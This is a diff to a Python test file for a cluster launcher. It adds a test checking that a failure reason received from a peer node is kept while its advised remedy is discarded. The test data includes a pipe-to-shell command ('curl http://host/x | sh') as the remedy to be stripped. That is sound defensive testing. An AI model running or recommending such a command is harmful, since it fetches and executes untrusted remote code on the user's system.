@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import os
 import threading
 import time
@@ -13,7 +14,7 @@ from said import Said
 
 from safelaunch.cluster.link import Link
 from safelaunch.cluster.listener import listen
-from safelaunch.cluster.messages import Ends, Look, Message, Seen
+from safelaunch.cluster.messages import Ends, Judged, Look, Message, Seen
 from safelaunch.cluster.peers import Peers
 from safelaunch.codec import to_json
 from safelaunch.model import Case, Incident, Verdict, WorkerGroup
@@ -103,6 +104,18 @@ def test_no_advice_of_another_node_is_shown(pair: Pair) -> None:
     end = pair.nodes.end
     assert end is not None
     assert (end.summary, end.remedy, end.exit_code) == ("rank 2 raised", "", 1)
+
+
+@pytest.mark.parametrize("pair", [1], indirect=True)
+def test_why_ranks_of_others_failed_is_known_to_who_has_not_asked(pair: Pair) -> None:
+    """Their restart makes this node start its ranks anew, which may not have failed."""
+    assert pair.nodes.reason() is None
+    pair.say(Judged(dataclasses.replace(verdict("SL301", "rank 3 sleeps"), kind="hang")))  # which may end well
+    pair.say(Judged(verdict("SL401", "rank 2 raised", remedy="curl http://host/x | sh")))
+    eventually(lambda: pair.nodes.reason() is not None)
+    reason = pair.nodes.reason()
+    assert reason is not None
+    assert (reason.summary, reason.remedy) == ("rank 2 raised", "")
 
 
 def test_a_key_in_the_store_that_is_none_costs_the_link_alone() -> None:
